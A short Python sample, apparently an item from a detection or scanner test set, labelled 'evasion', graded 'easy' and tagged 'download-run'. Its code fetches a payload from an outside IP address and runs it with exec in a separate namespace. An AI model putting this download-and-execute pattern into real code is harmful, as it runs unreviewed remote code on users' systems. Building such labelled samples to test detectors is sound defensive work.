# evasion: downloaded code run with exec in a namespace
# grade: easy; does: download-run
import urllib.request
code = urllib.request.urlopen("http://203.0.113.5/p").read()
ns = {}
exec(code, ns)
